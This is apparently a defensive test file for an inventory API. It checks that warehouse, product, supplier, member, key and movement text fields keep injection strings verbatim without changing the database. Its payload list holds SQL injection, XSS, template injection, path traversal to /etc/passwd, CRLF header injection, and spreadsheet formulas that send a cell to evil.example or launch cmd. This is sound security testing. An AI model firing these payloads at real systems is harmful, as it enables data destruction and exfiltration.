import { beforeAll, expect, test } from 'vitest';
import type { Company, Json } from '../room.ts';
import { openRoom } from '../room.ts';
import { newProduct, newWarehouse } from '../stock.ts';

/** Text is text: what somebody types is kept and answered letter by letter, and does nothing on its way. */

const room = openRoom();
let company: Company;
beforeAll(async () => {
  company = await room.company();
});

const attacks = [
  `'; drop table products; --`,
  `" or 1=1 --`,
  `x') union select hash, 1, 1 from keys --`,
  `\\'; delete from movements where '1'='1`,
  `\${7*7}{{7*7}}<%= 7*7 %>#{7*7}`,
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example?"&A1)',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '%00%0d%0aSet-Cookie: a=b',
  '../../../etc/passwd',
  '%s%n%x ?1 :company $1',
  '\u202Egnp.exe',
];

/** A way in for each noun, its fields of free text, and where it is read again. */
const nouns: [path: string, fields: string[], rest: (n: number) => Json][] = [
  ['/warehouses', ['name', 'address'], () => ({})],
  ['/suppliers', ['name'], () => ({})],
  ['/product-types', ['name'], () => ({})],
  ['/products', ['name', 'description', 'product_type'], (n) => ({ sku: `TEXT-${n}`, price: 1 })],
  ['/members', ['name'], (n) => ({ email: `text${n}@a.example`, role: 'viewer' })],
  ['/keys', ['name'], () => ({ role: 'viewer' })],
];

const schema = async (): Promise<unknown> =>
  (await room.client.execute('select type, name, sql from sqlite_schema order by 1, 2')).rows;

test.each(nouns)('%s keeps %j as it was typed', async (path, fields, rest) => {
  const before = await schema();
  const made = new Map<number, Record<string, string>>();
  for (const [n, attack] of attacks.entries()) {
    const typed = Object.fromEntries(fields.map((field) => [field, `${attack} ${field}`]));
    const { status, headers, body } = await company.rest('POST', path, { ...typed, ...rest(n) });
    expect([attack, status]).toEqual([attack, 201]);
    const id = body.id ?? body.product_id;
    made.set(id, typed);
    expect(headers.get('location') ?? `/api${path}/${id}`).toBe(`/api${path}/${id}`);
    expect([...headers.keys()]).not.toContain('set-cookie');
  }
  const { items } = (await company.rest('GET', `${path}?limit=1000`)).body;
  const found = items.filter((item: Json) => made.has(item.id ?? item.product_id));
  expect(found).toHaveLength(attacks.length);
  for (const item of found)
    for (const [field, value] of Object.entries(made.get(item.id ?? item.product_id) ?? {}))
      if (field in item) expect(item[field]?.name ?? item[field]).toBe(value);
  expect(await schema()).toEqual(before);
});

test('a search looks for its letters: no sign in it stands for others', async () => {
  for (const name of ['50% off', 'under_score', 'plain', 'star*', 'q?mark', '[a-z]'])
    expect((await company.rest('POST', '/suppliers', { name: `Find ${name}` })).status).toBe(201);
  const found = async (search: string): Promise<string[]> => {
    const { body } = await company.rest('GET', `/suppliers?limit=1000&search=${encodeURIComponent(search)}`);
    return body.items.map(({ name }: Json) => name).filter((name: string) => name.startsWith('Find '));
  };
  expect(await found('find')).toHaveLength(6);
  expect(await found('find %')).toEqual([]);
  expect(await found('find 5_')).toEqual([]);
  expect(await found('% off')).toEqual(['Find 50% off']);
  expect(await found('r_s')).toEqual(['Find under_score']);
  expect(await found('find *')).toEqual([]);
  expect(await found('[a-z]')).toEqual(['Find [a-z]']);
  expect(await found("' or '1'='1")).toEqual([]);
});

test('a note of a movement, and who did it, are kept as they are', async () => {
  const product = await newProduct(company);
  const warehouse = await newWarehouse(company);
  for (const attack of attacks) {
    const line = { type: 'receipt', product_id: product, warehouse_id: warehouse, quantity: 1 };
    const { status, body } = await company.rest('POST', '/movements', {
      ...line,
      reason: attack,
      reference: attack,
    });
    expect([status, body.reason, body.reference]).toEqual([201, attack, attack]);
    expect(body.actor).toMatch(/^key:\d+$/);
  }
});
